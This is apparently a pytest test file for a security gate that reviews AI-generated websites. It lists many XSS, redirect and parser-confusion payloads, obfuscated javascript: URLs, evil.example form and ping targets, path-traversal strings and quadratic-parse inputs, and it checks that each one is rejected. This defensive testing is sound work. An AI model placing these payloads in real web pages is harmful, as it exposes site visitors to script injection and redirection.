"""The review gate for model-written sites (issue 12, items 6, 7 and 8): an allowlist that sees what a
browser would run, safe paths, a fixed content type per extension, and a bounded parse."""

from __future__ import annotations

from typing import Any

import pytest

from chalicelib.adapters.s3_sites import S3SiteStore
from chalicelib.phases.outputs import ReviewFinding, SiteFile, SiteFiles
from chalicelib.website.checks import MAX_FINDINGS, check_file, check_site
from chalicelib.website.files import MAX_FILE_BYTES, MAX_SITE_BYTES
from tests.support.sites import HOSTILE_HTML, PT_ORDER, body, build, findings, mutate

SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">{}</svg>'


@pytest.fixture(scope="module")
def site() -> SiteFiles:
    return build(PT_ORDER)


def errors_in(files: SiteFiles, path: str = "index.html") -> list[str]:
    return [m for s, f, m in findings(files) if s == "error" and f == path]


def with_file(files: SiteFiles, path: str, text: str) -> SiteFiles:
    new = SiteFile.model_construct(path=path, content_type="text/html", body=text)  # as a model could send it
    return SiteFiles.model_construct(files=[*[f for f in files.files if f.path != path], new])


# What passed check_site before (the list), and other ways to the same ends. Each must be an error.
ATTACKS = [
    # redirects and what the CSP does not stop
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', 'http-equiv="refresh"'),
    ('<meta http-equiv="Refresh" content="0; URL=https://evil.example">', 'http-equiv="refresh"'),
    # where Python's parser and a browser disagree
    ("<!-- x --!><script>alert(1)</script> -->", "ends earlier in a browser"),
    ("<!--><script>alert(1)</script>-->", "ends earlier in a browser"),
    ("<!---><script>alert(1)</script>-->", "ends earlier in a browser"),
    ("<p><![CDATA[ x ><script>alert(1)</script> ]]></p>", "<![CDATA["),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', "<noscript>"),
    (
        '<textarea aria-label="m"><p title="</textarea><img src=x onerror=alert(1)>"></p></textarea>',
        "inside <textarea>",
    ),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", "<style> inside <svg>"),
    ('<script type="application/ld+json">{}</script x><script>alert(1)</script>', 'contains "</"'),
    ('<script type="application/ld+json"/><p>x</p>', "browsers do not close it"),
    ('<a href="index.html" href="javascript:alert(1)">x</a>', 'attribute "href" appears twice'),
    # URLs: relative, https:, mailto: and tel: only
    ('<button type="submit" formaction="javascript:alert(1)">x</button>', 'attribute "formaction"'),
    (
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "javascript: URL in <a xlink:href>",
    ),
    ('<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "javascript: URL in <a href>"),
    ('<form action="https://evil.example/collect"><button type="submit">x</button></form>', "another site"),
    ('<a href="java&#x09;script:alert(1)">x</a>', "javascript: URL"),
    ('<a href=" &#14; javascript:alert(1)">x</a>', "javascript: URL"),
    ('<a href="JaVaScRiPt&colon;alert(1)">x</a>', "javascript: URL"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "data: URLs are not allowed"),
    ('<a href="vbscript:x">x</a>', "vbscript: URLs are not allowed"),
    ('<a href="http://evil.example/">x</a>', "http: URLs are not allowed"),
    ('<a href="//evil.example/">x</a>', "protocol-relative"),
    ('<a href="\\\\evil.example/">x</a>', "protocol-relative"),
    ('<img alt="x" src="ok.png" srcset="favicon.svg 1x, javascript:alert(1) 2x">', "javascript: URL"),
    ('<img alt="x" src="data:image/svg+xml,<svg onload=alert(1)>">', "data: URLs"),
    # elements and attributes that are not on the list
    ('<iframe src="https://evil.example"></iframe>', "<iframe>"),
    ('<object data="x.svg"></object>', "<object>"),
    ('<embed src="x.svg">', "<embed>"),
    ('<base href="https://evil.example/">', "<base>"),
    ("<style>body{}</style>", "<style>"),
    ("<math><mi>x</mi></math>", "<math>"),
    ('<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>', "<animate> inside <svg>"),
    ("<svg><foreignObject><p>x</p></foreignObject></svg>", "<foreignobject> inside <svg>"),
    ('<a href="index.html" ping="https://evil.example/track">x</a>', 'attribute "ping"'),
    ('<div is="x-evil">x</div>', 'attribute "is"'),
    ('<link rel="preload" href="https://evil.example/x">', '<link rel="preload">'),
    ('<meta charset="utf-7">', 'charset="utf-7"'),
    ('<img alt="x" src="favicon.svg" onerror="alert(1)">', 'inline event handler "onerror"'),
    ("<?xml-stylesheet href='x.xsl'?>", "<?xml-stylesheet"),
]


@pytest.mark.parametrize("snippet,words", ATTACKS)
def test_what_a_browser_could_run_or_follow_is_an_error(site: SiteFiles, snippet: str, words: str) -> None:
    found = errors_in(mutate(site, "index.html", "<h1>", snippet + "<h1>"))
    assert any(words in message for message in found), found


def test_what_the_template_writes_still_passes(site: SiteFiles) -> None:
    assert findings(site) == []
    fine = (
        '<a href="https://wa.me/55119?text=Ol%C3%A1">w</a><a href="mailto:a@b.c">m</a><a href="tel:+55">t</a>'
        '<a href="sobre.html#x" data-track="1" aria-label="s">s</a><img src="favicon.svg" alt="" srcset="favicon.svg 2x">'
        '<table><caption>c</caption><tr><th scope="col">a</th></tr><tr><td colspan="2">b</td></tr></table>'
        '<details open><summary>s</summary><p>p</p></details><time datetime="2024-01-01">x</time><h1>'
    )
    assert errors_in(mutate(site, "index.html", "<h1>", fine)) == []


def test_inline_styles_are_a_warning_the_csp_would_block_them(site: SiteFiles) -> None:
    changed = mutate(site, "index.html", "<h1>", '<p style="color:red">x</p><p style="x">y</p><h1>')
    assert findings(changed) == [
        (
            "warning",
            "index.html",
            "2 inline style attribute(s): the site's "
            "Content-Security-Policy (style-src 'self') blocks them; put the CSS in styles.css",
        )
    ]


# --- every file a browser can run script in ---------------------------------------------------------
@pytest.mark.parametrize(
    "path,text,words",
    [
        ("favicon.svg", SVG.format("<script>alert(1)</script>"), "<script> is not allowed in an SVG"),
        (
            "favicon.svg",
            SVG.replace("<svg ", '<svg onload="alert(1)" ').format(""),
            'inline event handler "onload"',
        ),
        (
            "favicon.svg",
            SVG.format('<a href="javascript:alert(1)"><text>x</text></a>'),
            "javascript: URLs are not allowed",
        ),
        (
            "favicon.svg",
            SVG.format('<a xmlns:x="http://www.w3.org/1999/xlink" x:href="data:x">t</a>'),
            "data: URLs",
        ),
        (
            "favicon.svg",
            SVG.format('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'),
            "<foreignObject> is not allowed",
        ),
        ("favicon.svg", '<?xml-stylesheet href="x.xsl"?>' + SVG.format(""), "processing instructions"),
        ("favicon.svg", '<!DOCTYPE svg [<!ENTITY a "aaaa">]>' + SVG.format("&a;"), "DOCTYPE, ENTITY"),
        (
            "logo.svg",
            "<svg><script>alert(1)</script></svg>",
            "root element must be <svg> in the SVG namespace",
        ),
        (
            "sitemap.xml",
            '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>index.html</loc></url>'
            '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></urlset>',
            "only sitemap elements are allowed",
        ),
        (
            "sitemap.xml",
            '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>javascript:alert(1)</loc>'
            "</url></urlset>",
            "is not an http(s) URL",
        ),
        ("page.htm", "<!doctype html><script>alert(1)</script>", "inline script"),
        ("app.js", "alert(1)", 'files of type ".js" are not allowed'),
        ("index.php", "<?php ?>", 'files of type ".php" are not allowed'),
        ("evil.html.exe", "x", 'files of type ".exe"'),
    ],
)
def test_every_file_that_can_run_script_is_checked(site: SiteFiles, path: str, text: str, words: str) -> None:
    found = errors_in(with_file(site, path, text), path)
    assert any(words in message for message in found), found


@pytest.mark.parametrize(
    "path",
    [
        "a/../../other/index.html",
        "../index.html",
        "./index.html",
        "a/./b.html",
        "a//b.html",
        "/index.html",
        "a/",
        "A.html",
        "a\\b.html",
    ],
)
def test_paths_cannot_climb_out(site: SiteFiles, path: str) -> None:
    found = errors_in(with_file(site, path, "<!doctype html>"), path)
    assert len(found) == 1 and found[0].startswith("unsafe path: "), found


def test_check_file_checks_one_page_on_its_own(site: SiteFiles) -> None:
    page = next(f for f in site.files if f.path == "sobre.html")
    known = {f.path for f in site.files}
    assert check_file(page, known) == []
    assert [f.message for f in check_file(page, known - {"index.html"})] == [
        'link to "index.html" does not resolve'
    ] * 3
    bad = page.model_copy(
        update={"body": page.body.replace("<h1>", '<meta http-equiv="refresh" content="0"><h1>')}
    )
    assert [f.severity for f in check_file(bad, known)] == ["error"]


# --- content types come from the extension ---------------------------------------------------------
class RecordingS3:
    def __init__(self) -> None:
        self.puts: list[dict[str, Any]] = []

    def put_object(self, **kw: Any) -> None:
        self.puts.append(kw)


def test_published_files_get_the_type_of_their_extension_not_the_models() -> None:
    s3 = RecordingS3()
    S3SiteStore(s3, "b", "https://sites.test").publish(
        "sites/g",
        [
            ("index.html", "text/html; charset=utf-7", b"x"),
            ("favicon.svg", "text/html", b"<svg/>"),
            ("sitemap.xml", "text/html", b"<x/>"),
            ("robots.txt", "text/html", b"x"),
            ("styles.css", "text/html", b"x"),
        ],
    )
    assert [(p["Key"], p["ContentType"]) for p in s3.puts] == [
        ("sites/g/index.html", "text/html; charset=utf-8"),
        ("sites/g/favicon.svg", "image/svg+xml"),
        ("sites/g/sitemap.xml", "application/xml"),
        ("sites/g/robots.txt", "text/plain; charset=utf-8"),
        ("sites/g/styles.css", "text/css; charset=utf-8"),
    ]


@pytest.mark.parametrize("path", ["a/../../other/index.html", "app.js", "/x.html"])
def test_the_store_refuses_what_the_gate_refuses_before_writing_anything(path: str) -> None:
    s3 = RecordingS3()
    with pytest.raises(ValueError, match="refusing to publish"):
        S3SiteStore(s3, "b", "https://sites.test").publish(
            "sites/g", [("index.html", "text/html", b"x"), (path, "text/html", b"x")]
        )
    assert s3.puts == []


# --- sizes, before anything is parsed ------------------------------------------------------------------
@pytest.mark.parametrize("unit", list(HOSTILE_HTML))
def test_inputs_that_made_the_audit_quadratic_are_reported_unfinished(site: SiteFiles, unit: str) -> None:
    """`"<a" * 80000` took 13 s (and `"<a " * 40000` over 4 minutes); how long each takes now is
    `make bench`'s (section 7, bench/audit.py), not a timed test's."""
    bad = unit * HOSTILE_HTML[unit]
    assert len(bad.encode()) <= MAX_FILE_BYTES
    found = errors_in(mutate(site, "index.html", "</html>", bad))
    assert any("is never finished" in message or "never closed" in message for message in found), found[:3]


def test_a_file_over_the_limit_is_refused_unparsed(site: SiteFiles) -> None:
    big = body(site, "index.html") + "<p>x</p>" * (MAX_FILE_BYTES // 8)
    assert errors_in(mutate(site, "index.html", body(site, "index.html"), big)) == [
        f"file is {len(big.encode())} bytes; the limit is {MAX_FILE_BYTES}"
    ]


def test_a_site_over_the_limit_is_refused_before_parsing(
    site: SiteFiles, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chalicelib.website import checks

    def parsed(*args: Any) -> Any:
        raise AssertionError("a file was parsed")

    pages = [SiteFile(path=f"p{n}.html", content_type="text/html", body="<a" * 100_000) for n in range(6)]
    oversize = SiteFiles(files=[*site.files, *pages])
    assert sum(len(p.body) for p in pages) > MAX_SITE_BYTES
    monkeypatch.setattr(checks, "check_file", parsed)
    assert [(f.severity, f.file) for f in check_site(oversize)] == [("error", "(site)")]
    with pytest.raises(AssertionError, match="parsed"):  # the spy is the one check_site calls
        check_site(site)


def test_findings_are_capped_and_fit_the_schema(site: SiteFiles) -> None:
    noisy = mutate(
        site, "index.html", "<h1>", '<img src="nope.png">' * 500 + '<a href="' + "x" * 5000 + '">x</a><h1>'
    )
    found = check_site(noisy)
    assert (
        len(found) == MAX_FINDINGS
        and found[-1].message.startswith("and ")
        and found[-1].message.endswith(" more finding(s)")
    )
    assert all(ReviewFinding.model_validate(f.model_dump()) == f for f in found)
